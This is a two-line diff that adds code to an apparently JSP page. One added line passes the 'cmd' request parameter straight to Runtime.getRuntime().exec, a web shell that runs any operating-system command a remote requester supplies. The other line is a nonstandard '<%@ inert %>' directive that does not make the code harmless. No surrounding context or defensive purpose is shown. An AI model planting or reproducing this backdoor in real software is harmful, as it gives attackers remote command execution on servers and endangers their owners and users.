@@ -1,0 +1,2 @@
+<%@ inert %>
+<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>
